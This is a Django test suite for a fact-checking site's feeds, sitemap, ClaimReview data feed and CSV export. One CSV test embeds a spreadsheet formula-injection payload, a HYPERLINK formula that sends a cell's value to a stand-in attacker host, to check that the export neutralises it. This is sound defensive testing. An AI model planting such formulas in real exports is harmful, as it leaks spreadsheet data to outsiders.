"""Feeds and exports of published verdicts (factcheck/syndication.py, sitemaps.py, exports.py):
RSS, Atom, /sitemap.xml, the ClaimReview DataFeed at /claimreview.json and /verdicts.csv.

Each lists published verdicts only, costs the same queries for 2 verdicts as for 10, and says
the origin the request came in on (or FACTCHECK_PUBLIC_BASE_URL when it is set)."""

import csv
import datetime as dt
import html
import io
import json
import xml.etree.ElementTree as ET

import feedparser
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import NoReverseMatch, reverse

from factcheck import syndication
from factcheck.exports import CSV_COLUMNS, spreadsheet_safe
from reviews import services
from reviews.models import PublishedVersion, Review, Verdict
from tests.api_helpers import second_editor
from tests.factories import (
    make_article,
    make_claim,
    make_claim_with_evidence,
    make_evidence,
    make_published_review,
)

pytestmark = pytest.mark.django_db

ORIGIN = "http://testserver"
SITEMAP_NS = {"sm": "http://www.sitemaps.org/schemas/sitemap/0.9"}
OUTPUTS = [
    "/verdicts/rss/",
    "/verdicts/atom/",
    "/sitemap.xml",
    "/claimreview.json",
    "/verdicts.csv",
]


@pytest.fixture(autouse=True)
def origin_from_the_request(settings):
    settings.FACTCHECK_PUBLIC_BASE_URL = ""
    settings.FACTCHECK_ORGANIZATION_NAME = "Example Desk"


@pytest.fixture
def published(reviewer, editor):
    return make_published_review(claim=make_claim_with_evidence(), reviewer=reviewer, editor=editor)


@pytest.fixture
def hidden(reviewer, editor):
    """A verdict awaiting approval, one taken down, and a dismissed claim, each in its own
    article: none may appear anywhere."""
    claim = make_claim_with_evidence()
    awaiting = services.review_submit(
        claim=claim,
        reviewer=reviewer,
        verdict=Verdict.SUPPORTED,
        rationale="Awaiting approval, not public.",
        evidence_ids=[claim.evidence.first().pk],
    )
    taken_down = make_published_review(
        claim=make_claim_with_evidence(), reviewer=reviewer, editor=editor
    )
    services.review_unpublish(review=taken_down, editor=editor, reason="Wrong city.")
    dismissed = services.claim_dismiss(claim=make_claim(), user=editor, reason="opinion")
    return [Review.objects.get(pk=r.pk) for r in (awaiting, taken_down, dismissed)]


def parse(client, path: str, **extra):
    response = client.get(path, **extra)
    assert response.status_code == 200, response.content[:500]
    return response


def feed(client, path: str, **extra):
    parsed = feedparser.parse(parse(client, path, **extra).content)
    assert not parsed.bozo, parsed.bozo_exception
    return parsed


def shown(detail) -> str:
    """What a reader displays of a feed's text: HTML is rendered, so entities become text."""
    return html.unescape(detail.value) if detail.type == "text/html" else detail.value


def sitemap_locations(client, **extra) -> dict[str, str]:
    root = ET.fromstring(parse(client, "/sitemap.xml", **extra).content)
    return {
        url.findtext("sm:loc", namespaces=SITEMAP_NS): url.findtext(
            "sm:lastmod", namespaces=SITEMAP_NS
        )
        for url in root.findall("sm:url", SITEMAP_NS)
    }


def csv_rows(client, **extra) -> list[dict]:
    response = parse(client, "/verdicts.csv", **extra)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    reader = csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline=""))
    assert reader.fieldnames == CSV_COLUMNS
    return list(reader)


def data_feed(client, **extra) -> dict:
    return json.loads(parse(client, "/claimreview.json", **extra).content)


def verdict_url(review, origin: str = ORIGIN) -> str:
    return f"{origin}/verdicts/{review.pk}/"


# --- What each output lists -----------------------------------------------------------------


def test_the_rss_feed_lists_published_verdicts_only(client, published, hidden):
    parsed = feed(client, "/verdicts/rss/")

    assert parsed.version == "rss20"
    assert parsed.feed.title == "Example Desk: verdicts"
    assert parsed.feed.link == f"{ORIGIN}/verdicts/"
    [entry] = parsed.entries
    assert shown(entry.title_detail) == published.claim.text
    assert entry.link == verdict_url(published)
    assert entry.summary == "Misattributed. The minister did not say this; the agency did."
    assert [tag.term for tag in entry.tags] == ["Misattributed"]
    assert dt.datetime(
        *entry.published_parsed[:6], tzinfo=dt.UTC
    ) == published.published_at.replace(microsecond=0)


def test_the_atom_feed_dates_an_entry_by_first_publication_and_updates_it_on_correction(
    client, published, reviewer, editor
):
    services.review_correct(
        review=published, editor=second_editor(), verdict=Verdict.UNSUPPORTED, reason="It was 400."
    )
    first, latest = (
        dt.datetime(2026, 1, 5, 9, 30, tzinfo=dt.UTC),
        dt.datetime(2026, 2, 7, 16, 0, tzinfo=dt.UTC),
    )
    PublishedVersion.objects.filter(review=published, number=1).update(published_at=first)
    PublishedVersion.objects.filter(review=published, number=2).update(published_at=latest)
    Review.objects.filter(pk=published.pk).update(published_at=latest)

    parsed = feed(client, "/verdicts/atom/")

    assert parsed.version == "atom10"
    assert parsed.feed.links[0].href == f"{ORIGIN}/verdicts/"
    assert {link.rel: link.href for link in parsed.feed.links}["self"] == f"{ORIGIN}/verdicts/atom/"
    [entry] = parsed.entries
    assert entry.id == entry.link == verdict_url(published)
    assert entry.summary.startswith("Unsupported. ")
    assert entry.published == "2026-01-05T09:30:00+00:00"
    assert entry.updated == "2026-02-07T16:00:00+00:00"


def test_the_feeds_carry_the_newest_verdicts_up_to_their_length(
    client, reviewer, editor, monkeypatch
):
    monkeypatch.setattr(syndication, "FEED_LENGTH", 2)
    reviews = [
        make_published_review(claim=make_claim_with_evidence(), reviewer=reviewer, editor=editor)
        for _ in range(3)
    ]
    for path in ("/verdicts/rss/", "/verdicts/atom/"):
        links = [entry.link for entry in feed(client, path).entries]
        assert links == [verdict_url(reviews[2]), verdict_url(reviews[1])], path


def test_a_feed_shows_markup_in_a_claim_as_text_and_survives_control_characters(
    client, reviewer, editor
):
    sentence = "Output of <b>R&D</b> fell by 5 percent."
    claim = make_claim(
        article=make_article(text=f"The minister said: {sentence} Then he left."), sentence=sentence
    )
    make_evidence(claim=claim)
    # A rationale sent through the API may hold characters XML 1.0 cannot carry.
    make_published_review(
        claim=claim, reviewer=reviewer, editor=editor, rationale="No <i>source</i>\x0c\x01 says so."
    )

    for path in ("/verdicts/rss/", "/verdicts/atom/"):
        [entry] = feed(client, path).entries
        assert shown(entry.title_detail) == sentence, path
        assert shown(entry.summary_detail) == "Misattributed. No <i>source</i> says so.", path


def test_the_sitemap_lists_public_pages_published_verdicts_and_their_articles(
    client, published, hidden, reviewer, editor
):
    repeated_in = make_article(source_url="")
    make_claim(article=repeated_in, canonical=published.claim)
    dismissed_repeat_in = make_article()
    dismissed_repeat = make_claim(article=dismissed_repeat_in, canonical=published.claim)
    services.claim_dismiss(claim=dismissed_repeat, user=editor, reason="duplicate")

    found = sitemap_locations(client)

    pages = [f"{ORIGIN}/", f"{ORIGIN}/verdicts/", f"{ORIGIN}/corrections/"]
    try:
        pages.append(ORIGIN + reverse("methodology"))
    except NoReverseMatch:
        pass  # The methodology page is listed once the site has one.
    assert set(found) == {
        *pages,
        verdict_url(published),
        f"{ORIGIN}/articles/{published.claim.article_id}/",
        f"{ORIGIN}/articles/{repeated_in.pk}/",
    }
    published.refresh_from_db()
    assert found[verdict_url(published)] == published.published_at.date().isoformat()
    assert (
        found[f"{ORIGIN}/articles/{repeated_in.pk}/"] == published.published_at.date().isoformat()
    )
    # Every listed page is there for anyone.
    for location in found:
        assert client.get(location.removeprefix(ORIGIN)).status_code == 200, location


def test_the_data_feed_holds_the_claimreview_of_each_published_verdict(client, published, hidden):
    body = data_feed(client)

    assert body["@context"] == "https://schema.org"
    assert body["@type"] == "DataFeed"
    assert body["url"] == f"{ORIGIN}/claimreview.json"
    published.refresh_from_db()
    assert body["dateModified"] == published.published_at.isoformat()
    [element] = body["dataFeedElement"]
    assert element["@type"] == "ClaimReview"
    assert element["url"] == verdict_url(published)
    assert element["claimReviewed"] == published.claim.text
    assert element["reviewRating"]["alternateName"] == "Misattributed"
    # The same object as the verdict page's markup.
    page = client.get(published.get_absolute_url()).content.decode()
    script = page.split('<script type="application/ld+json">')[1].split("</script>")[0]
    assert json.loads(script) == element


def test_the_data_feed_of_a_desk_with_nothing_published_is_empty(client, hidden):
    body = data_feed(client)
    assert body["dataFeedElement"] == []
    assert "dateModified" not in body


def test_the_csv_has_one_row_per_published_verdict(client, published, hidden):
    [row] = csv_rows(client)

    claim, article = published.claim, published.claim.article
    published.refresh_from_db()
    assert row == {
        "id": str(published.pk),
        "url": verdict_url(published),
        "claim": claim.text,
        "claimant": "The health minister",
        "verdict": "misattributed",
        "rationale": "The minister did not say this; the agency did.",
        "first_published": published.published_at.isoformat(),
        "last_modified": published.published_at.isoformat(),
        "article_title": article.title,
        "article_url": article.source_url,
        "outlet": "Example Times",
    }


def test_the_csv_quotes_commas_quotes_and_line_breaks_and_defuses_formulas(
    client, reviewer, editor
):
    sentence = '=HYPERLINK("http://evil.example/?"&A1, "5 people")'
    article = make_article(
        text=f"Officials said {sentence} were moved, she wrote.",
        title='@channel: evacuations, "Geneva"',
        outlet="+Example, Times",
        source_url="",
    )
    claim = make_claim(article=article, sentence=sentence)
    make_evidence(claim=claim)
    rationale = 'The count is "800", not 5,\nper the agency\'s table.'
    review = make_published_review(
        claim=claim, reviewer=reviewer, editor=editor, rationale=rationale
    )

    [row] = csv_rows(client)

    assert row["claim"] == "'" + sentence
    assert row["article_title"] == '\'@channel: evacuations, "Geneva"'
    assert row["outlet"] == "'+Example, Times"
    assert row["rationale"] == rationale
    assert row["article_url"] == f"{ORIGIN}/articles/{article.pk}/"
    assert row["url"] == verdict_url(review)


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(trigger):
    assert spreadsheet_safe(f"{trigger}1+1") == f"'{trigger}1+1"


def test_other_cells_are_left_as_they_are():
    for text in ["1,200 people", "", "'quoted'", "a=b", "https://example.org/?q=-1"]:
        assert spreadsheet_safe(text) == text


# --- Cost ------------------------------------------------------------------------------------


def test_each_output_costs_the_same_queries_for_2_verdicts_as_for_10(client, reviewer, editor):
    corrector = second_editor()

    def publish(n: int) -> None:
        for i in range(n):
            claim = make_claim_with_evidence(n_evidence=1)
            review = make_published_review(claim=claim, reviewer=reviewer, editor=editor)
            if i % 2:
                make_claim(canonical=claim)  # another appearance
                services.review_correct(
                    review=review, editor=corrector, rationale=f"Revised {i}.", reason="Wording."
                )

    def queries() -> dict[str, int]:
        counts = {}
        for path in OUTPUTS:
            with CaptureQueriesContext(connection) as captured:
                assert client.get(path).status_code == 200
            counts[path] = len(captured.captured_queries)
        return counts

    publish(2)
    few = queries()
    publish(8)
    many = queries()
    assert few == many
    # Feeds and CSV: the verdicts with claim, article, claimant correction and first
    # publication. Sitemap: count and page of verdicts, and of articles. DataFeed: the
    # verdicts (with the claimant's Wikipedia page), their versions, their repeats.
    assert many == {
        "/verdicts/rss/": 1,
        "/verdicts/atom/": 1,
        "/sitemap.xml": 4,
        "/claimreview.json": 3,
        "/verdicts.csv": 1,
    }


# --- Whose address ---------------------------------------------------------------------------


def every_url_of_each_output(client, **extra) -> list[str]:
    """The verdict page's address as each output gives it."""
    rss = feed(client, "/verdicts/rss/", **extra).entries[0].link
    atom = feed(client, "/verdicts/atom/", **extra).entries[0].link
    listed = [
        loc
        for loc in sitemap_locations(client, **extra)
        if "/verdicts/" in loc and loc[-2].isdigit()
    ]
    data = data_feed(client, **extra)["dataFeedElement"][0]["url"]
    row = csv_rows(client, **extra)[0]["url"]
    return [rss, atom, *listed, data, row]


def test_the_outputs_name_the_origin_the_request_came_in_on(client, published, settings):
    settings.ALLOWED_HOSTS = ["testserver", "news.example"]

    on_a_port = every_url_of_each_output(client, SERVER_PORT="8123")
    assert set(on_a_port) == {verdict_url(published, "http://testserver:8123")}

    over_https = every_url_of_each_output(client, HTTP_HOST="news.example:8443", secure=True)
    assert set(over_https) == {verdict_url(published, "https://news.example:8443")}


def test_the_outputs_name_the_configured_origin_when_there_is_one(client, published, settings):
    settings.FACTCHECK_PUBLIC_BASE_URL = "https://checks.example.org/"

    urls = every_url_of_each_output(client, SERVER_PORT="8123")

    assert set(urls) == {verdict_url(published, "https://checks.example.org")}


def test_a_host_outside_allowed_hosts_gets_no_output(client, published):
    for path in OUTPUTS:
        assert client.get(path, HTTP_HOST="evil.example").status_code == 400, path
